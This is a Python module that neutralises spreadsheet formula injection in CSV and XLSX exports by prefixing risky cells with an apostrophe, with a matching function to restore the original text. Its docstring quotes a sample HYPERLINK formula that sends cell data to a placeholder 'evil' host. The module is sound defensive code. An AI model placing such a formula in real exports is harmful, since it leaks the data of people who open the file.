"""Spreadsheet cells that can never become formulas (CSV and formula injection).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is run as a formula by Excel, LibreOffice and Google Sheets when a CSV
or workbook is opened (``=HYPERLINK("http://evil/?"&A1,"点击")`` from a scraped
page or a manifest title). OWASP's CSV-injection guidance: prefix such a cell
with an apostrophe, which every spreadsheet shows as text. Every CSV and XLSX
writer of the product goes through :func:`neutralise_frame`; readers of our own
sheets take the apostrophe off again with :func:`restore`, so a round trip
gives the original text.
"""

from __future__ import annotations

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run.

    >>> neutralise('=HYPERLINK("http://x")'), neutralise("-1+2"), neutralise("汕头")
    ('\\'=HYPERLINK("http://x")', "'-1+2", '汕头')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The text :func:`neutralise` was given (for readers of our own sheets).

    >>> restore("'=1+1"), restore("'plain"), restore("=1")
    ('=1+1', "'plain", '=1')
    """
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are all neutralised."""
    out = frame.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    out.columns = [neutralise(str(name)) for name in out.columns]
    return out


__all__ = ["FORMULA_STARTS", "neutralise", "neutralise_frame", "restore"]
